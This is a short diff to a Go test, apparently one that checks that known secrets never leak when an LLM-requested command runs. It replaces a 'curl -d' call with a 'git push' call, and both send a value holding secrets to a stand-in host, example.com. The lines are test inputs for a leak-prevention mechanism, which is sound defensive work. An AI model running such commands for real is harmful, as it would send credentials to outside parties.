@@ -105,7 +105,7 @@ func TestKnownSecretsAreNowhere(t *testing.T) {
 	h.rt.setHook(nil)
 
 	// A person is asked.
-	e := run("curl", "-d", both, "https://example.com/in")
+	e := run("git", "push", "https://example.com/in", both)
 	e.Env, e.Cwd = env, "/tmp/"+ownSecret
 	e.Asked = execapi.Asked{Source: "llm", Thread: "t"}
 	a, done := h.started(alice, e)
